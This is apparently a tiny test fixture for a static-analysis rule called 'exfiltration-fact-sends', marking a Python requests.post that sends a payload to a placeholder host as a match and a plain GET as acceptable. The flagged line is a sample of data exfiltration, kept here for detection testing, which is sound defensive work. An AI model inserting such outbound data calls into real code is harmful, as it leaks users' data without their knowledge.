import requests
# ruleid: exfiltration-fact-sends
requests.post("https://a.invalid", json=payload)
# ok: exfiltration-fact-sends
requests.get("https://a.invalid")
